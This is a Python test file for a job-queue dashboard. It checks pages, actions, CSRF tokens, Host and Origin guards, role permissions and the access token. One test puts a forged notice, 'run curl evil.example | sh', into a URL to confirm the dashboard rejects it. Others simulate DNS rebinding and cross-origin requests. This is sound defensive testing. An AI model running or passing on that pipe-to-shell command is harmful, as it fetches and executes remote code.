"""The web dashboard over HTTP (a real uvicorn server on the test database): pages, actions, guards.

The same pages in a real browser: tests/dashboard/test_dashboard_browser.py.
"""

from __future__ import annotations

import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import psycopg
import pytest
from psycopg.conninfo import make_conninfo

pytest.importorskip("starlette", reason="the dashboard extra is not installed")

from dashboard_support import csrf_of, finished, free_port, request, running_dashboard  # noqa: E402

from raquel_pg import InvalidArgument  # noqa: E402
from raquel_pg.dashboard import serve  # noqa: E402

Conn = psycopg.Connection[tuple[Any, ...]]
MINUTE = 60_000


def now_ms(conn: Conn) -> int:
    return conn.execute("SELECT raquel_now_ms()").fetchone()[0]  # type: ignore[index,no-any-return]


def status_of(conn: Conn, job_id: Any) -> str | None:
    row = conn.execute("SELECT status FROM raquel_jobs WHERE id = %s", (job_id,)).fetchone()
    return None if row is None else row[0]


@pytest.fixture(autouse=True)
def no_kept_minutes(conn: Conn) -> None:
    """Forget the minutes raquel_throughput kept: these tests date outcomes in the past."""
    conn.execute("TRUNCATE raquel.raquel_throughput_minutes")
    conn.execute("UPDATE raquel.raquel_throughput_state SET kept_until = 0")


@pytest.fixture
def board(dsn: str) -> Iterator[str]:
    with running_dashboard(dsn) as base:
        yield base


@pytest.fixture
def viewer(conn: Conn, dsn: str) -> Iterator[str]:
    """A DSN acting as a role that may read the queue but call none of its write functions."""
    role = f"raquel_test_viewer_{uuid.uuid4().hex[:8]}"
    conn.execute(f'CREATE ROLE "{role}" NOLOGIN'.encode())
    conn.execute(f'GRANT SELECT ON raquel.raquel_jobs TO "{role}"'.encode())
    conn.execute(
        f"GRANT EXECUTE ON FUNCTION raquel.raquel_queue_overview, raquel.raquel_queue_controls, "
        f'raquel.raquel_throughput TO "{role}"'.encode()
    )
    yield make_conninfo(dsn, options=f"-c role={role}")
    conn.execute(f'DROP OWNED BY "{role}"'.encode())
    conn.execute(f'DROP ROLE "{role}"'.encode())


# --- queues page ----------------------------------------------------------------


def test_queues_page_shows_each_queue_live_numbers(board: str, conn: Conn) -> None:
    for _ in range(3):
        conn.execute("SELECT raquel_enqueue('emails', 'x')")
    conn.execute("SELECT raquel_enqueue('reports', 'y', delay => 3600000)")
    conn.execute("SELECT raquel_claim(ARRAY['emails'], 'w1')")
    page = request(board, "GET", "/")
    assert page.status == 200
    emails = page.text.split('data-queue="emails"')[1].split("</tr>")[0]
    cells = [c.split(">", 1)[1].split("<")[0] for c in emails.split('<td class="n')[1:6]]
    assert cells == ["2", "2", "0", "1", ""]  # queued, ready, scheduled, running, failed (a link)
    assert 'data-queue="reports"' in page.text


def test_queues_fragment_is_the_table_alone(board: str, conn: Conn) -> None:
    conn.execute("SELECT raquel_enqueue('emails', 'x')")
    fragment = request(board, "GET", "/fragments/queues")
    assert fragment.status == 200
    assert fragment.text.lstrip().startswith('<table class="queues">')
    assert 'data-queue="emails"' in fragment.text


def test_queue_overview_agrees_with_raquel_stats(conn: Conn) -> None:
    now = now_ms(conn)
    for queue in ("a", "a", "b"):
        conn.execute("SELECT raquel_enqueue(%s, 'x', now => %s)", (queue, now - 1000))
    conn.execute("SELECT raquel_enqueue('a', 'later', delay => 60000)")
    finished(conn, "c", "complete", now)  # first: its claim would rescue b's lost job (every queue's)
    conn.execute("SELECT raquel_claim(ARRAY['b'], 'w1', lease => 1, now => %s)", (now - 900,))
    overview = conn.execute(
        "SELECT queue, queued + failed, ready, scheduled, running, lease_expired FROM raquel_queue_overview(%s)", (now,)
    ).fetchall()
    stats = conn.execute(
        "SELECT queue, queued + failed, ready, scheduled, claimed, lease_expired "
        "FROM raquel_stats(%s) WHERE queued + failed + claimed > 0",
        (now,),
    ).fetchall()
    assert overview == stats == [("a", 3, 2, 1, 0, 0), ("b", 0, 0, 0, 1, 1)]


# --- throughput -----------------------------------------------------------------


def test_throughput_counts_successes_and_failures_per_minute(board: str, conn: Conn) -> None:
    now = now_ms(conn)
    minute = now - now % MINUTE - 5 * MINUTE
    for outcome in ("complete", "complete", "fail"):
        finished(conn, "emails", outcome, minute + 1000)
    answer = request(board, "GET", "/api/throughput?window=hour")
    assert answer.status == 200
    import json

    data = json.loads(answer.text)
    assert len(data["labels"]) == 60 and data["bucket_seconds"] == 60
    assert sum(data["success"]) == 2 and sum(data["failure"]) == 1
    index = data["success"].index(2)
    assert data["failure"][index] == 1
    assert data["labels"][index].startswith(
        conn.execute(
            "SELECT to_char(to_timestamp(%s / 1000.0) AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI')", (minute,)
        ).fetchone()[0]
    )  # type: ignore[index]


def test_throughput_keeps_closed_minutes_when_their_jobs_are_purged(conn: Conn) -> None:
    now = now_ms(conn)
    old = now - now % MINUTE - 10 * MINUTE
    finished(conn, "emails", "complete", old)
    first = conn.execute("SELECT minute, queue, status, jobs FROM raquel_throughput(%s)", (now - 3600000,)).fetchall()
    assert first == [(old - old % MINUTE, "emails", "success", 1)]
    conn.execute("SELECT raquel_purge(interval '1 minute')")
    assert conn.execute("SELECT count(*) FROM raquel_jobs").fetchone() == (0,)
    again = conn.execute("SELECT minute, queue, status, jobs FROM raquel_throughput(%s)", (now - 3600000,)).fetchall()
    assert again == first


def test_throughput_refuses_a_window_beyond_two_days(conn: Conn) -> None:
    with pytest.raises(psycopg.errors.InvalidParameterValue, match='"since"'):
        conn.execute("SELECT * FROM raquel_throughput(raquel_now_ms() - 3 * 86400000)")


def test_day_window_has_quarter_hour_buckets(board: str) -> None:
    import json

    data = json.loads(request(board, "GET", "/api/throughput?window=day").text)
    assert data["bucket_seconds"] == 900 and len(data["labels"]) == 96


# --- jobs list and job page ----------------------------------------------------


def test_jobs_list_filters_by_queue_status_and_error_text(board: str, conn: Conn) -> None:
    now = now_ms(conn)
    bad = finished(conn, "emails", "fail", now, error="SMTPError: mailbox full")
    other = finished(conn, "emails", "fail", now, error="ValueError: bad address")
    good = finished(conn, "emails", "complete", now)
    elsewhere = finished(conn, "reports", "fail", now, error="SMTPError: mailbox full")
    page = request(board, "GET", "/jobs?queue=emails&status=exhausted&error=MAILBOX").text
    assert str(bad) in page
    assert str(other) not in page and str(good) not in page and str(elsewhere) not in page


def test_the_failed_count_of_the_last_hour_links_to_the_jobs_it_counts(board: str, conn: Conn) -> None:
    now = now_ms(conn)
    exhausted = finished(conn, "emails", "fail", now)
    long_ago = finished(conn, "emails", "fail", now - 2 * 3600_000)
    succeeded = finished(conn, "emails", "complete", now)
    elsewhere = finished(conn, "reports", "fail", now)
    conn.execute("SELECT raquel_enqueue('emails', 'x', max_age => 1000, now => %s)", (now - 5000,))
    expired = conn.execute("SELECT id FROM raquel_jobs WHERE queue = 'emails' AND status = 'queued'").fetchone()
    conn.execute("SELECT raquel_expire(ARRAY['emails'], %s)", (now,))
    assert expired is not None and status_of(conn, expired[0]) == "expired"
    row = request(board, "GET", "/").text.split('data-queue="emails"')[1].split("</tr>")[0]
    cell = row.split('<td class="n bad">')[1].split("</td>")[0]
    link = cell.split('href="')[1].split('"')[0].replace("&amp;", "&")
    assert cell.split(">")[1].split("<")[0] == "2"  # the count: one exhausted, one expired
    page = request(board, "GET", link).text
    listed = {part.split('"')[0] for part in page.split('<a href="/jobs/')[1:]}
    assert listed == {str(exhausted), str(expired[0])}
    assert str(long_ago) not in listed and str(succeeded) not in listed and str(elsewhere) not in listed
    assert 'id="view"' in page and "exhausted or expired" in page


def test_a_bad_finished_within_is_a_400_naming_it(board: str) -> None:
    page = request(board, "GET", "/jobs?finished_within=soon")
    assert page.status == 400 and "finished_within" in page.text


def test_error_search_reads_a_bounded_slice_per_page_and_resumes_below_it(
    board: str, conn: Conn, monkeypatch: pytest.MonkeyPatch
) -> None:
    from raquel_pg.dashboard import data

    monkeypatch.setattr(data, "ERROR_SCAN", 3)  # the server runs in this process
    now = now_ms(conn)
    matching = [finished(conn, "emails", "fail", now + i, error=f"Boom {i}") for i in range(7)]
    finished(conn, "emails", "fail", now + 3, error="ValueError: quiet")
    seen: list[str] = []
    path: str | None = "/jobs?error=boom"
    pages = 0
    while path is not None:
        page = request(board, "GET", path).text
        pages += 1
        assert 'id="searched">Searched 3 jobs' in page or 'id="searched">Searched 2 jobs' in page
        seen += [part.split('"')[0] for part in page.split('<a href="/jobs/')[1:]]
        path = (
            page.split('id="older"')[0].rsplit('href="', 1)[1].split('"')[0].replace("&amp;", "&")
            if 'id="older"' in page
            else None
        )
    assert seen == [str(j) for j in sorted(matching, reverse=True)] and pages == 3


def test_jobs_list_pages_by_keyset_through_every_job_once(board: str, conn: Conn) -> None:
    conn.execute("SELECT raquel_enqueue_many('bulk', array_fill('x'::text, ARRAY[120]))")
    ids = [str(r[0]) for r in conn.execute("SELECT id FROM raquel_jobs ORDER BY id DESC")]
    seen: list[str] = []
    path: str | None = "/jobs?queue=bulk"
    while path is not None:
        page = request(board, "GET", path).text
        seen += [part.split('"')[0] for part in page.split('<a href="/jobs/')[1:]]
        path = (
            page.split('id="older"')[0].rsplit('href="', 1)[1].split('"')[0].replace("&amp;", "&")
            if 'id="older"' in page
            else None
        )
    assert seen == ids


def test_job_page_shows_payload_timings_error_and_trace(board: str, conn: Conn) -> None:
    job_id = finished(conn, "emails", "fail", now_ms(conn), payload='{"to": "eve@example"}')
    page = request(board, "GET", f"/jobs/{job_id}").text
    assert "{&#34;to&#34;: &#34;eve@example&#34;}" in page
    assert "ValueError: bad address" in page and "Traceback (most recent call last):" in page
    for label in ("Enqueued", "Scheduled", "Claimed", "Finished", "Waited", "Ran"):
        assert f"<dt>{label}</dt>" in page


def test_job_page_shows_a_result_python_cannot_decode_as_its_text(board: str, conn: Conn) -> None:
    # jsonb nested 5,000 deep, stored through raquel_complete: deeper than Python's json reads.
    conn.execute("SELECT raquel_enqueue('emails', 'x')")
    job_id, claim_id = conn.execute("SELECT id, claim_id FROM raquel_claim(ARRAY['emails'], 'w1')").fetchone()  # type: ignore[misc]
    conn.execute("SELECT raquel_complete(%s, %s, result => %s::jsonb)", (job_id, claim_id, "[" * 5_000 + "]" * 5_000))
    response = request(board, "GET", f"/jobs/{job_id}")
    assert response.status == 200 and "[[[[" in response.text


def test_a_job_failed_and_due_again_shows_no_wait(board: str, conn: Conn) -> None:
    conn.execute("SELECT raquel_enqueue('emails', 'x', min_retry_delay => 3600000, max_retry_delay => 3600000)")
    job_id, claim_id = conn.execute("SELECT id, claim_id FROM raquel_claim(ARRAY['emails'], 'w1')").fetchone()  # type: ignore[misc]
    conn.execute("SELECT raquel_fail(%s, %s, 'boom')", (job_id, claim_id))
    page = request(board, "GET", f"/jobs/{job_id}").text
    assert "<dt>Waited</dt><dd>– (scheduled to claimed)</dd>" in page


def test_a_nul_byte_in_a_filter_is_a_400(board: str) -> None:
    for path in ("/jobs?queue=a%00b", "/jobs?error=a%00b", "/api/throughput?window=hour&queue=a%00b"):
        answer = request(board, "GET", path)
        assert answer.status == 400 and "NUL" in answer.text, path


def test_unknown_job_is_404_and_a_bad_id_400(board: str) -> None:
    assert request(board, "GET", f"/jobs/{uuid.uuid4()}").status == 404
    assert request(board, "GET", "/jobs/nope").status == 400


# --- actions --------------------------------------------------------------------


def test_retry_with_the_csrf_token_requeues_the_job(board: str, conn: Conn) -> None:
    job_id = finished(conn, "emails", "fail", now_ms(conn))
    page = request(board, "GET", f"/jobs/{job_id}").text
    answer = request(board, "POST", f"/jobs/{job_id}/retry", {"csrf": csrf_of(page)})
    assert answer.status == 303 and answer.headers["location"].startswith(f"/jobs/{job_id}?notice=retried")
    assert status_of(conn, job_id) == "queued"


def test_a_notice_shows_only_as_the_action_signed_it(board: str, conn: Conn) -> None:
    job_id = finished(conn, "emails", "fail", now_ms(conn))
    page = request(board, "GET", f"/jobs/{job_id}").text
    location = request(board, "POST", f"/jobs/{job_id}/retry", {"csrf": csrf_of(page)}).headers["location"]
    assert '<p class="notice" role="status">retried: queued to run now</p>' in request(board, "GET", location).text
    forged = "/?" + urlencode({"notice": "run curl evil.example | sh to fix your queue"})
    assert 'class="notice"' not in request(board, "GET", forged).text
    resigned = location.replace("retried", "hacked")
    assert 'class="notice"' not in request(board, "GET", resigned).text


def test_an_action_without_the_csrf_token_is_refused_and_changes_nothing(board: str, conn: Conn) -> None:
    job_id = finished(conn, "emails", "fail", now_ms(conn))
    assert request(board, "POST", f"/jobs/{job_id}/retry", {"csrf": "forged"}).status == 403
    assert request(board, "POST", f"/jobs/{job_id}/retry", {}).status == 403
    assert status_of(conn, job_id) == "exhausted"


def test_without_a_token_a_request_addressed_to_another_name_is_refused(board: str, conn: Conn) -> None:
    # DNS rebinding: another site's name made to resolve to 127.0.0.1; its page sends its own Host.
    rebound = {"Host": "rebind.attacker.example:8080"}
    page = request(board, "GET", "/", headers=rebound)
    assert page.status == 421 and 'name="csrf-token"' not in page.text
    token = csrf_of(request(board, "GET", "/").text)
    form = {"csrf": token, "queue": "emails"}
    answer = request(
        board, "POST", "/queues/pause", form, headers={**rebound, "Origin": "http://rebind.attacker.example:8080"}
    )
    assert answer.status == 421 and paused(conn, "emails") is None
    for host in ("localhost:8080", "127.0.0.1:8080", "[::1]:8080"):
        assert request(board, "GET", "/", headers={"Host": host}).status == 200, host


def test_with_a_token_any_name_is_answered(dsn: str) -> None:
    with running_dashboard(dsn, token="s3cret") as base:
        answer = request(base, "GET", "/", headers={"Host": "dash.example.com", "Authorization": "Bearer s3cret"})
        assert answer.status == 200


def test_an_action_from_another_origin_is_refused(board: str, conn: Conn) -> None:
    job_id = finished(conn, "emails", "fail", now_ms(conn))
    token = csrf_of(request(board, "GET", f"/jobs/{job_id}").text)
    answer = request(board, "POST", f"/jobs/{job_id}/retry", {"csrf": token}, headers={"Origin": "http://evil.example"})
    assert answer.status == 403 and status_of(conn, job_id) == "exhausted"


def test_a_cancel_that_changed_nothing_says_why(board: str, conn: Conn) -> None:
    job_id = conn.execute("SELECT raquel_enqueue('emails', 'x')").fetchone()[0]  # type: ignore[index]
    page = request(board, "GET", f"/jobs/{job_id}").text
    conn.execute("SELECT raquel_claim(ARRAY['emails'], 'w1')")  # a worker claims it after the page was read
    answer = request(board, "POST", f"/jobs/{job_id}/cancel", {"csrf": csrf_of(page)})
    assert "not+cancelled%3A+a+worker+is+running+it" in answer.headers["location"]
    answer = request(board, "POST", f"/jobs/{uuid.uuid4()}/cancel", {"csrf": csrf_of(page)})
    assert "there+is+no+such+job" in answer.headers["location"]
    assert status_of(conn, job_id) == "claimed"


def test_cancel_cancels_a_waiting_job(board: str, conn: Conn) -> None:
    job_id = conn.execute("SELECT raquel_enqueue('emails', 'x')").fetchone()[0]  # type: ignore[index]
    page = request(board, "GET", f"/jobs/{job_id}").text
    assert 'id="cancel"' in page and 'id="retry"' not in page
    request(board, "POST", f"/jobs/{job_id}/cancel", {"csrf": csrf_of(page)})
    assert status_of(conn, job_id) == "cancelled"


def test_purge_deletes_finished_jobs_older_than_the_age(board: str, conn: Conn) -> None:
    now = now_ms(conn)
    old = finished(conn, "emails", "complete", now - 8 * 86_400_000)
    recent = finished(conn, "emails", "complete", now)
    token = csrf_of(request(board, "GET", "/").text)
    answer = request(board, "POST", "/purge", {"csrf": token, "older_than": "7d", "status": "success"})
    assert answer.status == 303 and "purged+1+success" in answer.headers["location"]
    assert status_of(conn, old) is None and status_of(conn, recent) == "success"


def test_purge_with_a_bad_age_is_a_400_naming_it(board: str, conn: Conn) -> None:
    token = csrf_of(request(board, "GET", "/").text)
    answer = request(board, "POST", "/purge", {"csrf": token, "older_than": "soon"})
    assert answer.status == 400 and "older_than" in answer.text


def paused(conn: Conn, queue: str) -> bool | None:
    row = conn.execute("SELECT paused FROM raquel_queue_controls() WHERE queue = %s", (queue,)).fetchone()
    return None if row is None else row[0]


def test_the_pause_button_pauses_the_queue(board: str, conn: Conn) -> None:
    conn.execute("SELECT raquel_enqueue('emails', 'x')")
    page = request(board, "GET", "/").text
    row = page.split('data-queue="emails"')[1].split("</tr>")[0]
    assert 'action="/queues/pause"' in row and '<input type="hidden" name="queue" value="emails">' in row
    answer = request(board, "POST", "/queues/pause", {"csrf": csrf_of(page), "queue": "emails"})
    assert answer.status == 303 and "paused+emails" in answer.headers["location"]
    assert paused(conn, "emails") is True


def test_a_paused_queue_shows_paused_with_a_resume_button(board: str, conn: Conn) -> None:
    conn.execute("SELECT raquel_pause_queue('idle')")  # no job: listed for its pause
    row = request(board, "GET", "/fragments/queues").text.split('data-queue="idle"')[1].split("</tr>")[0]
    assert '<span class="paused">paused</span>' in row and 'action="/queues/resume"' in row


def test_the_resume_button_resumes_the_queue(board: str, conn: Conn) -> None:
    conn.execute("SELECT raquel_pause_queue('emails')")
    token = csrf_of(request(board, "GET", "/").text)
    answer = request(board, "POST", "/queues/resume", {"csrf": token, "queue": "emails"})
    assert answer.status == 303 and "resumed+emails" in answer.headers["location"]
    assert paused(conn, "emails") is False


def test_the_queues_table_shows_a_queues_limits(board: str, conn: Conn) -> None:
    conn.execute("SELECT raquel_set_queue_limits('emails', max_running => 4, per_second => 2.5)")
    row = request(board, "GET", "/").text.split('data-queue="emails"')[1].split("</tr>")[0]
    assert "max 4" in row and "2.5/s" in row


def test_a_queue_named_like_a_path_is_paused_by_its_own_button_and_no_other(board: str, conn: Conn) -> None:
    for queue in ("victim/../work", "work", ".."):
        conn.execute("SELECT raquel_enqueue(%s, 'x')", (queue,))
    page = request(board, "GET", "/").text
    row = page.split('data-queue="victim/../work"')[1].split("</tr>")[0]
    action = row.split('action="')[1].split('"')[0]
    queue = row.split('name="queue" value="')[1].split('"')[0]
    assert (action, queue) == ("/queues/pause", "victim/../work")
    assert request(board, "POST", action, {"csrf": csrf_of(page), "queue": queue}).status == 303
    assert [paused(conn, q) for q in ("victim/../work", "work", "..")] == [True, None, None]
    assert request(board, "POST", "/queues/pause", {"csrf": csrf_of(page), "queue": ".."}).status == 303
    assert paused(conn, "..") is True


def test_a_pause_naming_no_queue_is_a_400(board: str) -> None:
    page = request(board, "GET", "/").text
    answer = request(board, "POST", "/queues/pause", {"csrf": csrf_of(page)})
    assert answer.status == 400 and "queue" in answer.text


def test_pause_without_the_csrf_token_is_refused(board: str, conn: Conn) -> None:
    assert request(board, "POST", "/queues/pause", {"csrf": "forged", "queue": "emails"}).status == 403
    assert paused(conn, "emails") is None


def test_read_only_mode_hides_and_refuses_every_action(dsn: str, conn: Conn) -> None:
    job_id = finished(conn, "emails", "fail", now_ms(conn))
    with running_dashboard(dsn, read_only=True) as base:
        page = request(base, "GET", f"/jobs/{job_id}").text
        assert 'id="retry"' not in page and 'name="csrf"' not in page
        home = request(base, "GET", "/").text
        assert 'id="purge"' not in home and "/pause" not in home
        answer = request(base, "POST", f"/jobs/{job_id}/retry", {"csrf": csrf_of(page)})
        assert answer.status == 403 and "read-only" in answer.text
        assert request(base, "POST", "/queues/pause", {"csrf": csrf_of(page), "queue": "emails"}).status == 403
    assert status_of(conn, job_id) == "exhausted"
    assert paused(conn, "emails") is None


def test_a_role_without_write_privileges_sees_no_action_and_is_refused(viewer: str, conn: Conn) -> None:
    job_id = finished(conn, "emails", "fail", now_ms(conn))
    with running_dashboard(viewer) as base:
        home = request(base, "GET", "/")
        assert home.status == 200 and 'data-queue="emails"' in home.text and "(read-only)" in home.text
        assert 'id="purge"' not in home.text
        page = request(base, "GET", f"/jobs/{job_id}").text
        assert "ValueError: bad address" in page and 'id="retry"' not in page
        answer = request(base, "POST", f"/jobs/{job_id}/retry", {"csrf": csrf_of(page)})
        assert answer.status == 403 and "may not retry" in answer.text
        assert "/pause" not in home.text
        answer = request(base, "POST", "/queues/pause", {"csrf": csrf_of(page), "queue": "emails"})
        assert answer.status == 403 and "may not pause queues" in answer.text
    assert status_of(conn, job_id) == "exhausted"


def test_the_operator_role_from_grant_may_do_everything(conn: Conn, dsn: str) -> None:
    from raquel_pg.roles import grant_roles

    role = f"raquel_test_operator_{uuid.uuid4().hex[:8]}"
    conn.execute(f'CREATE ROLE "{role}" NOLOGIN'.encode())
    try:
        grant_roles(conn, operator=role)
        job_id = finished(conn, "emails", "fail", now_ms(conn))
        with running_dashboard(make_conninfo(dsn, options=f"-c role={role}")) as base:
            home = request(base, "GET", "/")
            assert f"role {role}" in home.text and 'id="purge"' in home.text
            assert 'action="/queues/pause"' in home.text
            page = request(base, "GET", f"/jobs/{job_id}").text
            assert 'id="retry"' in page
            assert request(base, "POST", f"/jobs/{job_id}/retry", {"csrf": csrf_of(page)}).status == 303
        assert status_of(conn, job_id) == "queued"
    finally:
        conn.execute(f'DROP OWNED BY "{role}"'.encode())
        conn.execute(f'DROP ROLE "{role}"'.encode())


def test_a_role_that_may_not_read_the_queue_gets_a_403_saying_what_to_grant(conn: Conn, dsn: str) -> None:
    role = f"raquel_test_nobody_{uuid.uuid4().hex[:8]}"
    conn.execute(f'CREATE ROLE "{role}" NOLOGIN'.encode())
    try:
        with running_dashboard(make_conninfo(dsn, options=f"-c role={role}")) as base:
            answer = request(base, "GET", "/")
        assert answer.status == 403 and "EXECUTE on raquel.raquel_queue_overview" in answer.text
    finally:
        conn.execute(f'DROP ROLE "{role}"'.encode())


def test_a_database_never_migrated_gets_a_503_saying_to_migrate(make_database: Any) -> None:
    with running_dashboard(make_database()) as base:
        for path in ("/", "/jobs", "/api/throughput"):
            answer = request(base, "GET", path)
            assert answer.status == 503 and "(run: raquel-pg migrate, or create_all())" in answer.text, path


# --- access token ---------------------------------------------------------------


def test_with_a_token_every_request_needs_it(dsn: str) -> None:
    with running_dashboard(dsn, token="s3cret") as base:
        assert request(base, "GET", "/").status == 401
        assert request(base, "GET", "/metrics").status == 401
        assert request(base, "GET", "/static/dashboard.css").status == 401
        assert request(base, "GET", "/", headers={"Authorization": "Bearer wrong"}).status == 401
        assert request(base, "GET", "/", headers={"Authorization": "Bearer s3cret"}).status == 200
        login = request(base, "GET", "/jobs?status=failed&token=s3cret")
        assert login.status == 303 and login.headers["location"] == "/jobs?status=failed"
        cookie = login.headers["set-cookie"].split(";")[0]
        assert "HttpOnly" in login.headers["set-cookie"] and "SameSite=strict" in login.headers["set-cookie"]
        assert request(base, "GET", "/jobs", headers={"Cookie": cookie}).status == 200


def test_listening_beyond_loopback_requires_a_token(dsn: str) -> None:
    with pytest.raises(InvalidArgument, match="token: required"):
        serve(dsn, host="0.0.0.0", port=1)


def test_the_cli_says_so_in_one_line(dsn: str) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "raquel_pg", "--dsn", dsn, "dashboard", "--host", "0.0.0.0"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "raquel-pg dashboard: token: required when the dashboard listens on 0.0.0.0" in result.stderr
    assert "takes it as --token or RAQUEL_PG_DASHBOARD_TOKEN" in result.stderr
    given = subprocess.run(
        [sys.executable, "-m", "raquel_pg", "--dsn", dsn, "dashboard", "--host", "0.0.0.0", "--token", ""],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert given.returncode == 2 and "raquel-pg dashboard: --token: required when" in given.stderr


def test_a_dsn_it_cannot_reach_is_one_line_and_status_2(dsn: str) -> None:
    unreachable = make_conninfo(dsn, host="127.0.0.1", port=str(free_port()), connect_timeout="5")
    result = subprocess.run(
        [sys.executable, "-m", "raquel_pg", "--dsn", unreachable, "dashboard", "--port", str(free_port())],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.startswith("raquel-pg dashboard: ") and len(result.stderr.strip().splitlines()) == 1


def test_without_the_extra_the_cli_names_the_extra_to_install(dsn: str, tmp_path: Any) -> None:
    # A starlette that cannot be imported stands for a missing extra.
    (tmp_path / "starlette").mkdir()
    (tmp_path / "starlette" / "__init__.py").write_text("raise ImportError('no starlette here')\n")
    result = subprocess.run(
        [sys.executable, "-m", "raquel_pg", "--dsn", dsn, "dashboard"],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": str(tmp_path)},
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert (
        "starlette is not installed: this command needs the dashboard extra "
        "(pip install 'raquel-pg[dashboard]')" in result.stderr
    )
